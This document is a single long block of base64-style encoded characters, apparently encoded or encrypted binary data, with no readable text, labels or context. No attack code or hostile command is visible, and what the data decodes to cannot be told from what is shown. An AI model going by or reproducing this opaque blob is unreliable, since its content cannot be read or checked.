K1gHMOeHV1UCW9KeMHbP0/3Dc/aoYLOjYAO0bLEQOIPH0+Zyv0EwTM3Q3NIePaY3iwAqM1z3cqM1Sqnp0Pff3c4k3VU1zKENzWVG3Qnwhe7+sNLT1InMYgdkj+X7PLlZLhVPWeR5rXaGyjMd5fKnv2PU4X3SCY5WfyHEQUV4iI2+Oy9rtAi9uq/yZNow/Ps6fuF4NIz8Eg1ewdDHSg1lV/fX8BNn3MzmsFU/kGT9XoUY629HxpVtic6snXC3oVbY7Y+tIBuIZOYge76wayQkQ/SjouGQRv/Vr4zN4v47XDdSe6QcEToWmgd1w3wwNRJ2cmUAT92rjWRi+ZdEnDZaRSY7FrH+S72cxn9M0GhzVajvpr3q1zwBmTRrqSTnWUcee67p8jJVYIlH5IqwRmfTprVqHuAeCEwTNxXq3KtIAnSfM+XGoPZ7S2mgYCYgAUdqSc+pa5MPwXIDmGW6p6InymQZHddeIaMAJ3VK1agA1lwRjv3ytG0dtHzSLKDu1j1LOvp5hDhbC/7VZk3z0jWuX9/4M4k1lHzb+VJ+XuyumNSTFtggcf/Iy1veTriplzcoziRoMzDIFG5n1SgYr5qotIYr0EqYljPbvM6UcVP8BGoy6N83nPmcL6sbzNu0QkimmW/+zD6Myga/6tRtnfJSF+cvNSNDMnQaN9zFjozw2moVRniYt36Ng1r1WyBfy+1JWJX9GwLwch5UFLvjhiPLXx0w38D9g1TbwP/bpxkVD6GYkL6+iT/MivM+2iCnvKZTPi40hT7vUEY4rrM6E8BxTDWdpattURgCxoRYLOW0lwwnWt09JvFrpXmUbVhwZhQWCeDkMqOEoI1KgbkIWZ/igG5/fCptHRx6XmKwyTDB5MPNKW2VTPm8j35v9p1R8XqGOVHssLX3B9L84j75G4bIiBeUciIXChV7XawuOGCkhCLcHmHoROv8L2mqOlCqNzmayUhAE1XhvHk01UuR46EPF7h2vGxlSvDR15Iw9V6tUDq92CkBB5FoD1kvlVl9O2nG+PuWIfbzXo0tfoVp6X9Kb6yRbgrzd3afsqydjXBsOuS6Xhed6qeOO1nY+eoTON+C1NIuZxkCO3mU2HRhASNNx33+auNypfKuyis5BTd93IY+EPg3a7cq1V7nU8Cs50O1ucIStccyFp+OfOJ3S30mHBnamJdmD9ByOX7rX4bVMy7x37u22+i5YYzCI4jAGxfiJuxh8HzzqMQMMiaNjJFVM9limG4MGJOQ9HnCbEZNEMY4VJTswo9EGiXgfWWTE1iLjsSheHWtVJKqHAXDjoEJ/pB78nXQbMu3at8tyAjhndNC7eT9t2SN34YJVmEmse4m2d2XxqdpCIof93Ngvuj8pGLd/y33BlAhdGLSK+reeuXle5O8XHlNz/dDvainWVnfhRXQ2lcT8pcuC4cbYWLc17YhpS9GeWZ0bh32d8vJnuhrt2I6/7qMkWtLrhXsrjNjcUq8YnnFtjweQeUefqclc8t8+EHkT4UnOdfjSVAPY2cxEgVmemz7nWN0+1MMweItLJ0t0s+AJVk7V1B++sgcjl6BH5BeAEUiM5rC8Bs8HgJbEMeio2cjXBecx2CBXSJfmD8Emjz20Tcyp0K4f3Ivs9xhAgTzJn4reXe1ue5vJ1pYggN6Mz9HDMTp/pFSGTMyinFZ3VcCQfy0F7VEvzEUSYigbV62/4Yo3Lz0t0wIQF6RmlG2HViHuAggHCWmf1eb83FyUq8+26ky8N34hr0emezEhhllD5m8ghFrlcDCVZsW/HIpLRv4xHLIdaHxB4MPZSYL1fHEbP1tTk8YnTwsf2Nn9CKD/WYFPMKcy0iZatzptcNtZhONkoeOWMi5MTokeUDk0qLtzA/Co5Cp6GyP9RO9agmOWOKPLSOxosPWs/JBe0QnARdxvQFNav+wFO6QAKM5om5YYoyyHSyDQvBTogbYmsFh+T1I8V37VC/zcbS8Nvpmv7daxvuOxUyKpWorD3Z/yGa/dva7PFxS/1nf8WM527dUFuqzLZuAMC4daeCkOvDd1UcHzEp65hYsN1loSvoc+LPtnqNEKVYGVyK4OXWvTP/S8z0p2T8xYAZTyzDxXtJJicFvSlZS6r6OrC8vrFbMXKddJ14YWNhQ3JYWonzSu/e5KQKJciGlQp+pDA/GDAIh6KAKR/q+WJvlI9PoO2iS1zvOKIHBI47fkuWt/kQ21U/+iXu5vXfyggcy5OVDuIBF4+ebziFCol2iybUZkIMlAd1vHowGrPczNhIGpiFwAxpTOft5PQke9zvOb6msjmtbFW4UceOZ1jfGLJ3aLO317hhycdocIxGjBmYGlwnfFA7UvitdXOrKg5TKH4cIxIfEwUEYgHK9Z0YMrmJwniW6JtnRHzW8tI95zNbCNRIo+7uz1wUcnRvRn7NwKBWaqifY5lVo4kxV99tzCEZFkqCceqzm3kcmiBu8LBWB+NQXJ1nBUGcA7mwSExmOSM9jznlutJoTGfPUfY/LyRnsjL7FF90bBUvNQu9qyvcJ144Lm5j/yl6ERVJibW66FmyMfJEanpLR/zznxek+6qYZc+Gfd1JpECaRzsbJVxrDzn2LSsOeQheTkk5xiNlzumzWrDSYtDykDcKWfdis3reEKSwpDaI84xFu0FE6JAq6H4gVYOSsLWFdE3l8c9BB7Xzknu8SuCdjlLfBx+qkQpG0y/VDIJwIcNV8j7WO3fP55edWRtaxBGjFXdU05oRiskNY6KOU5nqr6MF6bxqVzWaZ/p3kdeDCnHBvJPdYL4gMQPBEX2Id3+jpYaqi/cJGE2s/6s40kFHb3M1kWqvsMoWvCuz/w1fQxVLDs08N7u/ckKjzk2q4KwqAPpu2ut9euhRQvgiAjB5WT7KHRtteyHfInqk3OHDu7Ni1YCkHLgdppg/drKcgnncKHHickZFfnyE9nu7PNNFbEi0XLM6DJwste4c/fZWfABV+Ho2uOanlIR6XEvSNwCjnunJllyyMxP7wcjc5MbvWksXdaakXsVeN5GlrvwHl+5fz5FW5xnaqzuJtFioyidm2IYBfueC4k4S8SfDK9oqA7+XfwEG43EbXeOGQcOA6O1ls16VmzAnv/laDYcnG5Ir+NhJEr13Utn99DZ50/v91gBHRRsBqjtGRB5WK9l+jFK0/8B8lSECm3RCDUh4TNOwRYJjpnmyzbXSa7FlxPBFP9XmzKqhR6zhHPyqqO5aj8MYgO58vb9iyhSdVEpA8bPiml3/6b70th/m1SAtIlHEYKhLni7inUea2K4y95qOBjI06qc9cKBphEXUolfns1O3hN61q7e3PLAxPcp9zAlatFq++bJn/G9CVuzZ84Sx5lP9Q6wZ1xLrrFUjJxj4JzFDw4NZTC+ahT4RWu/E6qbdVvfQ6Kw5xC5dOdbvZxQ1H9b6msgB0S6Rde5kQXcwpxlpZBFE6/en/FVWCyF3zrbJRfDuilK2ulVkeyPQR5NTX5lUFC2DJHAVwvavnnm13QZDTqKYUk/pk2+UjARxBhC7IPQDiIoW2mtaNF6npf1Nd/i3ln1u9PfVj6QU4JzYf9wLcj5kPG4C7pxC0Ufx6eMaJUboBYA+WGuLwRbFUYDqacyw/HiYuZeAeGCifLXjG0XLtzhxHryxsNNBYZGRzH2a9cpS+4ghSCMbzVvdBu8SIVcim9EORBJ3YPvinpqR765RLgHcgYiGV9GABveBqV5THvguzV9Zzg+NpXEu1126GJdtyDCRWOehsKQIYPEw0cXEci9ng98o+rdIUekXP1olAD7km7fHtrz5miPyQfoUOP42n906WLyPgghmZ6e0itmajW6Wn4WV9YYVLJQ3p4/y42y0jhR9WyDVtcQf29hgDEv0FCV1p96rKqQCkr6K/rpKuo1GWhB4Mgy9XpknSGrWPuwwNOCQXwSh+SYj9Q9JxS8Xwcp8gknhm3+ZRBrZuSJJJQwbzm6DD7PWUsabfWc+R/og/evdMJDIq5RpFhpIb+SNm35FQm/tYmoF4qhHReQpAvR8iOGxCLT9mLDz0ufX6Sjto2MYqDi1fskFKE+AWkfZK84gVlm28s+23Khq8cIASDAIGNxPXkRlHF3wOhlBc2PemwQJwBzvXFovoFT/SWQjLAL4uzN9mc1sqrZAnq0+4hDRRw0b2bgkKE7ggJ9z/D8Tv28KkVI31026/+/oAIa/N+Ar0FnlKgia/2kJdl1xeWhBGPDaNXDB+mRJcHKK3PlOUPkLlKh35MhJvwg5939NSJ7QYLew9J+u5ZrsarnlKOpk2UFRvMpVRIfHBNfm2lUtLc/Wo9sGoFng2oQ/vU76+lZ8MCUXGyqj+uGQTY2ZhjHzgJV/LgvIR3uQVDL7sDNvx49RsyebL72Kh/bK38Tppw55+27ALYnNJY0M/XbuTdvbGA4BlTy+XLwR696R9gEpVU3zWZl5ak0WMh+nwYFGlBKRTias+Zad2rlCgR15uBju25e+mBiLC+j4V2YNO5WX6xJqY1vahmX6Hx92O9BsiTG87F4k9XnZpbWTj+jw3AJGhbdXYkfH7zsq81fF+cZnek0TkE/R2m3Sek1xMydSN2QtqeGjfJCC8PA057j7H/Fji2SdWvrKkz/f7MZcQ9G4d4oKs9ABOP/1FG50TTV8U0HeTz3uoIvtoURzJNmCTuDcNPOyF4FxrFuVNb/aoevyJ3qMTSWln1Ykrc6UN63H/WnIt9AOREPbyJnXdYfF3DgvMffN0cB5TwDt8HS7iiTnDfmzCi3blRXZZdyyekgkwvqPf+1iMwa6sJZnB7BZCRgCsDGy70HqKQ1mV1sd9ulPkQlvW5Qrs8CsaCwwoS84XWN5r5mUdXcJswzr/BM+Opmqdlx6rlAf/94vhFTqE4is/9yGo/8UcUKrKdGdCQa9di2nhnZ9pnUxVRy9GCUTBXv1A5hgKdr9JJfUtKaKLngTMivED4xBtb9J1+D7/VSG+Xtnd+W59O4YY53BDm58lv6llpnCW/ew3hsRt0NR6S3sSm3I/F5unIRnb1KTuixoFJLeWuuSVYVAAqX3wNrjPQQZHaO7Fd49FIkXD67TmP4rgbQim/dqYKc9Mpqr1X3uP+Op8irBio7RfdZQY9l0wD68R1MhQHCMffmmCdmNYByS6nRZn89X+VJ/80ddmvbDeFWcdN3DRF19i42IifE/HvoSHh0jGyjTiunCByRUshiUL4j8eGvSkuteO6M1TFQpC3448HrvnpvGnYg/YE+5/4dtBcu1ssSmtwjJeLS7hvhLUIxNa9BPdNm0X/QXDdpPiDZh3TB47eZiN8G7qa+ZXUqaJZRHvl2MhwiicMjHQn7G+PkeaBJQety/YtD2q7IaKJrugAXerhq6/7m05K6l0V3qOPAu05qAry0BjDUw71BfqQQLIC6yeivff7RYjLGttqNs/pxvam8E72i7De8Gw9q0Red15LogpQ+6cMkk4cWBX4gCKG/eAvmu3rLAdoEIgn475n1pC5HMsmzGQgA4+jwRM6RlpTW8ex5DXOJixcA/rRuKh1yM46QpI+s/cMx3Dw4+VIPyryKdONt099Zh+yNCnE837JhvOxzRcZTOtPsdgdamYr/SUKPaNH6CcviPGndTeDTw7R7PUFpzdsLdXCvH3U7uF//aN1rJmq+1VNv7kassJxbHBs981phfIobrz4OTc8j8KGXjaQyFF/7BJFxXgt4AOHdaTLKNwMoaACvPtwa9CqpOa6zTxreLY5AmFFWrZkhGXlBGV6bB/9QFjmSAU6dp9H2Wp+XZ5RHYHjf750x+uloLA+fF5R39NyqjR/25RLO5uSDup3zN6aais12bPCCKicbX9Iyerp6BHt0DlSi8G1KzkrFcEGKtp4L3fGBlXRrhod+1iZ9DKkW3Sl45aQYF4opO85JGnWt5eNlLBsju557N24aRBb8QwdjKGmscRWOlfUlezjmzKfcKyMrzE19QUNU6M6RQPYYRik4UcbV7sWutRsVmxu6SmZMEmQMc/AACPxNwUQDkoNnGsvqJE844BhJ1uFAWF58WmDx1q9RfigWC95HSRvsHoJIoJeK8m12I1LAeCDheTHBoGDi25IQ4pASDb8R6AbBYBt+tOr573RbW6DtSVPkMEXSJ5ijX39ULVkvKkNHjv1Z/ZmsGEvCpjrTLoB70vSoehcX3k9Dt3tS+hkYIAN9qONse9UcMtyM8rsBC/4rk1RYlVbhJkmmnB7Se8P3zwxIA/0vMaHuPFJgdhMO6Ev8Rj81X3dk0vqdzvDTQFSA7N8QNaYl26KT2PX4gTMGe6i4rIiUojAKHdEpfCVxz6sZjDdoJVUuDzM0ir2XAq/9XtB0mrAT0+L9tXd1G/rJzkd5f0cl/7HT66pJlvAX15C/qbHt89I2u9PLt3A3GP6uTKrpSdSMmRs1DUTF2tJ3x5jQnZfSeXjgvtb+FKFyraElx2Xio2JsWxvplrUcxR0kltN+wY+ql9DqeOMvcS7WOe6HmLE4G6151vrlhVUiFtMEwGF0WzG15UcQT/9/6WIfudEUF0Zf9xLito70l7hoMN4PrmKnhMnIJQzuNq1BEiZbaLobVhgW3ZPHohL8DC2+XLKfCYWyhaTpdvJvjMh3Dxeeet3bSu5Y/8TM25OPjNXhFQ29tsfwamXh1SoYUT9N7ijDKlasoSPXbYYcZ15Je+TjaXDQzhgGPCoQ8dKXjpf898tLr3wxodB+3FCbfNNgYcqRaVSPARG5u/h/eYkVjn0RX9tnjeQKD9Bv17WVFbZsC+wNr8/ArxvvA27X6fXP6YgDeHyfpuN6Lt9G2fflrJVs3oNcQVWkxfEAbgsIj5ZyEW209Jhouszqjt2hcNNr+VKUXJ0OEHfClurqnfOA2jg8KuJxmOTSTOhY2R8AcrY39cx89Tk1JFOlZXtrLfu5KKEijonK0161BIN6tcg8EBRUDAmAlejjsJW6v2+luJ6C8M3UZ8UYMMACG1z8iq1vsZnfbt8Z5fuh9LvaVY7isIeSiL4tq0huuvFFwlI1lekkN5ZQc0PwdtmuTVm8OYuiAPQEYCcgMETuP4hS9u5uJCunpMAxbsg/UePscKCwoztKDn18JWI9pR1inxBPVWo6OnZSrkcE+j8gacVHJPj51QoZCBuXngdXqxM3B34i+juEw6zQ/wvGUIV4GhBZMzOagXQb5sbudjbZvMpgfzTnONjLNn/PeMlogCeAkZ9T6LB4GH9t7euWo5wDGyYC75cYZJYt1lqcxuNxULTMDKgq2/y3IUSRC/eO/BvHclfKsGGd9M22ymPjhUmNrZvynNADm1YgJB+7Bd2aDuPUX0WUQCuX92PUMS4pffRlzUamrjegznUB/njQpb1bJNBNx3BV4eqc9tLHCugKSWcqLh+MX45YDMz41oaYBsTQWZQ5kSH+lg2HNy9ITGl2hgkUZlOCvcEwJSJntVHsInOsWyWbsbRlPoF/697uLAvAT1GUMGCN/ZrNhYtSZRve58Y16ENYeBx0KoCYkiY1wQ4Qv0iEzFMnXszvULiHeBXN5oXGljrwj+eAqy6mgex6SFmCpSfXQkL+ALU3Cza1JvnGFDcRj01izga+sO9OOZGMpcZIOlrkwdo0hYp8XnZT2vlXZxASdVcjIaJEpBZcIQFSvLF1OVBfQFZMNm0AKJi0OPQwYwYf4besC0xx1fhWtNx0SiX/Cge9G0sXcytphYbTLJcV9oRePoJWQzCcET1wzLhtAd8YQKGHswioXedZpxXW3TNnRbjixDopa38+Cbu2LkhRhfmb84qJGz11NNKpT/JL+8GKIc9nhdDG+6ckY9SNlKrFXhL5bwHy3VMCVRaZL8WYmYLzqO77nMkwpkLRNvGjN/NLRw/cEjYM/d2cPDhc1ClpozWQ1BHVrzUjBfPp6LrAv2dfMvD4z8MUXZlZZDbw+XNakt0l+t5Q3DbTH1hwu278mQKSgtBazsajfJauWtoXQcSeYtDmUQlv/cCCUt1j1FBZGyRJX+SN84XysqK3WTT5KH5H+zCybEWVWB6Cy1KcqcCzK48Jt/b3pf+j/0A9zJnms3Soci7pgqZyTP93R8kK+sTGSp4TS7Pv91Bj9G7JsoV0B5TgTro7kxIw0S8PlhRvfl4MAFvNb6AJj4rhBChfFkZwT0qAusVvqU4J5eNe3/z6xVdPS3DvKJmmGD004TL1HLasOyAjLP4HqF7/e35e42jJtvhDH/miwuwkh9U/6BdIhAL0BqiGL6tejbUdsvAaJNTEbklxG/NIk9SoxQ7jlRu1DiWXB5vQeaMhnNvKV/DKZYxZLIfm3eoP0tQrTjpHjfY+oFEVGy4RZ7VjYE93j0snbtwevSSpAzvzWL8CgQ8MYnI6oTNLRyQCQaM6xJqkHLqNXltOYQ+F2hmRuURuyl1+Pv98ma8RAKSRHsWM4gh5D7NqhDdkP2kQWUA+3rtyddw1KrQHXQ7GyQSlL7V1/tKSyyaMkRwP3Ffw3tfbjJB7r47bzNqv/Zy+ajT15gJsH6Vs4ZCICA9QOWay/lSO3WtgqS8Z+DDgPtoXXLlYGpfSNMKYXnABXtYwLoqkx1qsf3nwJV3d19nHIsZB4H7jb7i3gCz8hR6NzAqIZhH6zPw7sB/et7whuR0Vw35o/YHiaV7A1jQgwMXErRcAQVHP4eB2EQXadTzIXJ54bmkHGDs7QPucrXhlGvikjDbvDoxgreFKbAkYFZVpOLJPvRY++On8aatDrAfAz07wxfqmPCVxSkFaIK+/cEbRsKzGelUD2Tm0fuZ+0raTLra5E2bY27kTORWLaVbIlR02wOiEFe5Xa8QOkteCr8vqz9MnM/vh7m5bEeE/4LefMqSn4pDqesWfNIgFsgOkHCoyqQa5LDf+BaleWoN0XZ7mqJYHsv6vmX2bbo41zm5V380X71aee4hicLOE3F3KbkgCXG+N+JXy2GRhrsCGpI90jcIY9+Mg9hONpgvdNJHHca7/p778Pz2N1n44yX4XXxnoB7lrbpnUkp9FL6oOQPeZ/qSANGmwcEY7mo2YG+7WdkQ4FBfzxDAz5Pe7CexSuuqlp4ckxfJGs13Rm5btALJau/hiJaEyLr/bWM/pWKzxvrylAN3mer0mkwOPMKXhnoduDBrZIcPZbtHDGRaMkpnh3XXZPPM8BK/nI7vA7yM5Chjn23XiH3WPxuG+ISysfI0klJg8b98413clr9MtbcAQmHT1ScDGUFkdhAkwgCaOAV6WesrIuKmkNAbfoSk5mHDhMxrapvAqHYX/M17RfB7KszS1SO/JsFgHR27R64OiB9a3YCUX8N5+BcCUSD+F+Uon8UYAfjugeMOvzakQxYCn4rTy+5fMysvZ32nJAywZ/bBs5BK6bnzUY0onAvrpwkSBXsnnGSq64iE5tOJS/xMHCQimpNHFOUdrMQ0p2P0eos4rDMqgt9h+V0sDx8cpROd6i+XxD1RcPi46+8a6+icgDiOfy+Iq/gcCaHAw9pHVY2g0aDFmAYZyi6KXrjkoNe7EbUtwu9qR1CxcH4uNT6njdeEquzFEJJzMJhRYSsDGFoyT94UZMcIMLTHL5/6K4xU4/HD8YMasK9KqoFxkt5aimSeB4Opmy/dazZPtE04IQv/f0daJTPsvftfP4ZtumtunXKXUH6GHGy3aO+rw/g5APBZw0bhPnkWkBMBmJ7VVVIDFvyr+9vmRz5zGZDYSdVmG5u/RB7BNtbsTfSJZ9Fk+c8W3zYdxXSHwMP4Uod1E5V5G2SNN2biPbIhvrWdbxtDdql9bQ/fvC/a4aWAulQcNgrBg0PFBJkrbZBdx9foTSyKWedMY4Nsdoe+UwbYN6lfA/4y0uWtgvFyCztU99jtVH8f8DNCwpH8sBi+ZnKgr3XqsZ6rvW26Z+OYTDpJZFy1vUGrV7rB43POCxv2fSxyHrl9r6XeiNUYqJP3pHEQ1B2Y9ChEbTav90/SIgkRsXC8XofRp3tWSTFVbC/44tSGTrhnEDtOJXJ7CecS3uZxKhw7cxvDGLxYcfriTUFEhbqM0BfAyTYIVYRmVtQRpSs4Tlbp/Xpsxss+/K7zrgI75f1zuYr1OvYvtqL0El+K9VKBS8KbPZ1r0e4UaSYucQQG6VLwgoGbfrKFKuNov8qSwz3j0JuaJplb12Q4samNPAxE9tYlFeW2DxzIfZSrxiR+Z9aPH/9wDiLL2tAuGQp3yYFOcMgj+pD7LMBZKpf7OGLFYXOAVeFoU43ikDZHsI//AEMsvTbSQuSrGbzlFGkVVGMKLoIzB5+XEUlpUMT2UfO3lsZXLFO0LvoGRUIwQKNg7KxXmY0JaCTuRI79RMrVkfkjh/gZR69CS8SBrCJ/Jf/sRZWyivZWyyvsTJYVfcib+YBtz4g5RsbWxytx596K73lO1AT1U1mfhFmDBUmfcZUaL/FxHhiKXQq4Fx8WizV38tT6GEprRRDGr/HScVrHUGhQr+LCEbplZ4qhnYS4odpgHu8CbYzPrimWoLV0et5a3Bm8Gcb6bcv9O32Ga/wdJm5e+JkxNgMD7JTEa+aEBjmU9vB9U69a3PyuYBJR90XUsM7SYDgKWsa8HuqpOfrvnYDqr8VwXSU/eXECa+4SEuMXnt/ywz4SgnIKFCJyWCx1EOR4rYsx0eTwGsaqCDjfmCLB7iVb/6qQWyQxBYD4l7gNbNTPASIjpJbOPPqbKOjJfFXjizEGlqG7EtVdlTXjKB948AyOEMR2AaQ7uKmswNyaczbx+WSBqxassB/t9sxM9f4Iit5C5d8pmGybHPD6ae4SepbotABOu1w4ojJ8pwsXKkdK1Ck4S14lXhdhzkhS1ASl4nhtuUt0P4sp7XeOeivhhMUt0IVEydM8nLwpIDef8ZroxmKOSCoHFfl9StnjvKm8t1fUr5TO8RXoStKqzjvKg05LvqqL0VfOvHB552DEq7gjvFSs+wPPG9Kn3I45P1b95SoQSg45P4M0JQven9Az9A5f8WBebyjScEW2+AaQetDe90Orc1r+Zg+comk7MtiZIihnDj8CebH3u0XCGfz5YYovkIQ8V0hVAE/muRbn61BffeVi9Vfbk3hK77cwj8MhthwqoiR53w6fceAUN/XYOtVq2dF8mtynsq/ynl5722ypgmlSq/vShuiOgpOJaH0Cu3jdWE2s+z2N+RZFhSI39ntataNV0xzeW8rXuutY/1PiLgco3Lb3ut/8Y+zt3F/IPexMv/FGJsVZ4blyDcpOPLEdLUlfQrAnZwz1HRg8es6tZx5uxkbB9EIyayi60PgueCepEJnVawMGa3+y/5y8slq+MeFwxZvhJ3VHr0F+ytO3uSkiNRbThf//mbZRzBBl4+2G6P3gKIy6+M5eB/yFHhiSuhkQLMpf+dKia1zUEUdNbeLkD965l2KLPt61EoXtSU/9/hI/reTE35XQp2Jo48jBdXVeuH3CzXm82Y4hm5A1ztpyZ7ZW/c2rWl1k+u+mivrxy00lPvF0bgmA6F56qGqdlas+n6gLPSqH45ERLSolSvAhEawUiw9660/B1DB+J+n5cUD7Mn0aQ9jMEcbXjTAq0cEEvUC1BELYZUfSRgdD2GX4OjnCDxpSB/mqHJApL51TslCB7bRi4gudpl3F3dieJnAO06wPBRqp/2eJfhH2G9DOEFAS2rDaH/Rzgl0VvGSxc1yv2Qk30U5ECSuoD65D1ekXMXobxuv3HzAn+m856J5NaDg3iaKWDWyKai9Zi5w0pVGJBUH2Lq6e4xecVFDGXso/iGYFhnZlxCaBqSxm0S8qMHqO/mgD2iZBvhcMPLv4jzREfBzuDugojx2uXw3X78EaGb+e/BylzlGVHXL4hHQGs0dpchVXb0IExIrsnuu9WgJJteyyw3uB2jXSgVgs4IN19i05rgJifJlGv2P6O745UnLb8RQ5Po4VEhOBI9pOY/smru3VH6+f2bDdXYpRDFCe374D/6Nxt/6yO3wWk02Xmf90v9cYJXcRVKCWXz38PKJ+W+TFtak/fh4ZcgmjjFf4tYE13kPTv1nsWrqSYmG4FKjGauwFdQtRBE/JPkI/vXt8xyndcck1Kv540eu5+oXAywPDnPBE2n3efwK7QwWHaSaC4oZB8VIH137IQwG6wWbDxLw8rk9zD2iVD0BgKkmcKes02hk2i9jJW5UvB8doaaIwMdMfe+bOx+ZNnFXf6fBA7jTZydQybio7ipndzhXy+YIDIB7hCFjrhqt6py6UZNQEpjbqeV2tj33QdYc6sZgtRTFlxbIv6vHy3TyXw4AyZdqaDLb1BnzddtBx/Mp0UTRddkc4v+ZoPAbvTNXS7lQAVY9tAqtu15dCqfz/u+9pqSxGCbLDAuy5oOt9PyPPtE2zll55wcHp69pMr51PhZK/mQ1ncEbFG14MCD2o25vjWyvLAX7NwwzRqeVMBSBtOSQplmgJKTzcf8nofhgCM8wHUJGnGGVbzOMrUb23/H17uZP7pRZ0rgCutSF+eMkRqMKfEg1RKTqdL4zr7X4MS1URAhnj84JZvlpTYFuSNkbD8fxdfekmSWviPLXYpyh6vu40OCdhWhxPR9caZwCoPYP2Gzu4ruslVJwu/Jgc6sVDAzGG1YW1gQhZH9Cqgw1ACqkPxIDmGrZbsqrDpVYt0ioSDJvws3I+1Zp7UIx9jP0T8vX/U97vfIJlVYooXLGuT+dXgyM92JxCL5NxThZ49TdwgYJlHlHuOusXl+ivjnKOH9OHEOen/NGANG8bLngfn2gi/wEkNl22pPji3bge6Bz84oSXz0SMBneB+/RQBD83T/v4sAVoqPlt4Wfh7eu5GERvmAZqTFoDL+Ripru5ODzIrsRXtF3YSILqfE9WpFjMKc4u0+cWG79idPbzQEOZdehc1Mi/A7gMj4NsHJ5fyw90p+b7TuaEjoAkx3qzyGSpBW1f48A6zVER5wH4ERg8Nj92Gz+2rLcpDHZoju/77Z1t+Lipd6mku2yJ+/mqxrmqeAVwonNlwuH16WlxzGwGw+QKU3CsL5pmvqvmjaWH73KXV6vUzpvkQasSwzRseFAZNfag5B8Tx/2ODvnZeWUlFnIRM6jtDpGeue0VAcoaA/FRLqgNJD7J5FEJmj7ZYayb1w4DFH6QoIINofxSfMsR72n21gHGqgPccOz+uasi4lGb+HU+VBxJPU5mUqFZAaXBV3B00Ij3ktFoiirj5PCuXXilczfCxqBUdf7yFQJ1drj1T+pVtKWWt/QO44zJf/1pqjkxoEwqOMEm31uYq1svEMxo/NqtHILku6D2tGSZQ2RQfDp3/q0d5hnkNrnijDXj2J9DLJi96OYwb0T1JiVLcc8tB6SrWBU4WouU9km29LcTiGMS8oWECRWCIJGVpaq3eJ0FlHaaLvjgCYYGKzwtdJAFBq7HetUpPkUzp89UIFD2rSP3x0VtFbAfkk7zedJFi4bg+Z85nkTg9O/gI1fkpFf7mCZ3Xf3eNyXQ54nfbygk/ebshY+rvQV0jNZKDfjVSqXHM89/cCn254glH5yGuAMi3/6SahU5nmJjZlSN0i7mJKaUnzYjo2hvBsH5ywqI7gI/XrFfQkRmqaYwRXWoc+D/cUwytilrrmVNwg9fjNRFFWN5ecGyYpCCOz+10p4gGS7aYncHCQO3G7QprPsXBswKkdEcq6LHthTsx2V+nIGhhxbGDnfSX4OY++bHZ407V2mH9vIvJXOAKegeIJhnEC7NdLgRAgNZi/OtmtfOXfLPxHzprnrf16fdCPuzGUjsAzgGgzwSa5go3HLYFUDrXXPA0C/mCdXT+IWqqnol/DC6cVfVKp5jOes7197kG2JrnlbBiEumhgU7mQ76ygnSYzx3b8J0iPxTkT2SrqK+K51YCNvYC+d4085yw8kco0CLUqnrBJRjlIrTWrAdizzF0RX9kCCaVTaiWFF0bBJIXibecZ1XWvpq/xYDlP+tgedBJznqdbgw/2P1vbVPSVsHm/uxeesxcnnHOWf89NXU6liGMXpNxibhJxJzpUvnvbETRX/3o+lWKrRmVihsEN6XxXi6fpj1spcZT5y7ZYgZ1cSgDue3O7jOv0rE/sMuBzcbRzLn1KavgL4n7HYZUunZlSif1sWD9u6YQZ0bWlhsAVf+sSCo+hWkip3x9sW0n8H4jm5A8gOhB5bBVgk+cYabO35ivQh29PW5rgby0/A812GUnU72X0Dh05GM404HFxlo02BrxVaZ4F0+qhNqXv2s/xzjuA3A8lPRXTn6UPw8F5NNvlSrsTUfy+3E0RUMupqIJ0IIfcbW0Ui3RMLpHyNw0s3MoO49O5GgGjIJkovRaWqsAvIL05V1W3gHslk6o7OYvOgPZkg5sx/qCpRpElZJT8+PB/NyWNvLeGvf4Ac3ATpk8xaXDdQ+AEhK6Jxdj+gXZSompwX1LpBDPdUcy9EicPwo64nbDWef0cuat2Rw9zB0IxY+6FnujBGGCX4kmVO0Cb31kQAdyiRaBQN/aJNp9kcKXNn2EOgqfZXpYQzRpFwOCu9EO0TgwTPGXMSAiD87Fg5f8U+G1s2THwtraH1upRxWWvC2/1YwRfXZ7BzVVT5j74NzYOI+kEymObsfdtljJBz81abL7EBUzCCdI5JDMwZO2JE7mH/7U/Vg+BCRPrXCscWr1oxcF4UVKD5hpemfuvJFQ+LJHWoyq83gWM/Kz5GqG4Q54XSlVSmCZBYqMHcm//oF81QwysCh6ywk0Y+QAN/cVd7DzqYfZ4uNriN4EhXTLbWTEOExGnpn9O8xnJFUbpJeLU4N7wzpxpSgcXATjSe1m0yRfcCTvY25r0Lme3d2aSPwKAd/zL/VxijJyL9WiIFBOdfUoALdUMb3J4gjkDd7xJ5z1IViuET9HAaoX9kWMyllfjsBKOaSu9mW+ZVxbtXIx3eUpQz6QdwINQaohvIVfwnb6V2tVmIy4LL4FnkpN0TAQlXdglAOd8pyOyvnpAi5B6NG33UcOGls5y9hm18LkCEFb2HY9XBh36YM/QxV8EGVSZhQVDE1Ks2Q15M69kfS8iXEXnYG3+pxrQqMFtrGNurDGkHfAUC/Dh9BtCBvRgk/ArvFR/4Urd8PnZT8t22/UfCA8Y1OdSS6UsNhF1MG9APyMQR5ziYvH/sLA8AzR54IqXupV9iugRxMGWWa4mthR8S757VMnCQFHxLcfbziqp8DGB3KQlJvPiNx9EujsZGujjYrXokz39gMSgiMyyoB6gkjVwABqu1V6xMt5LgqFyDIslExTqzw+J9m9omZg7gYor24vi4Hnn2bJtd7msE0OZvFlRDpjukhY4ZmjdptsQJE73Ms0/UlulZGRV9TmeHs2xakMAVVacEmcu3WJyscV52b9UMmiPSdjCnqO18KcDfboeHOfIVeetL1wbX6GN3p0Di2y1QGpVcgvlMJaLBHNWPLAOIUFkJNos9xB2lERF9MxROEV0naQ/Semb2clJxGPrI1DBPpVs4XvlVVRlZHX6BQwu68c95lsbMkSp6anq3oEb5ABwTtTaJJJDA+QoGW3lyvx664lOhi4Yto5+zBdXERlBP6ghkP/TGfX8jdiDLkCFKLlIH44ugFfwoLTpynN70mNiz6asug2silU+iMBTQ4nvB9nF+35ViOVO1rS8KxlPH1f/vBod+N4+VqUo0OgYyLMh1AnG921f3sNlBItWH/mBwdSZVmR1CwhXwrWYQ56gXzkaXrdOQoJM11PIrOLosb8BfVfqg4kTW+mfAcGqvn35TRfTym8KarkKkaDOmyMX5/oYrcraqvsp8AY9T5aSUpK3zQZ84bdL2CQtPcwKRanx8S71HUOWB3t7naZ9v9Z5tAihbDo+QkUmoAJQkXSrmvT15ITDgkUwm6x07GA6tc0Tvbx+HcMy0mB0OE+GuEC7akySb7DjH1uLHzcbkdwf0iBE0km7HX0lJcP4HnnZrtEPi13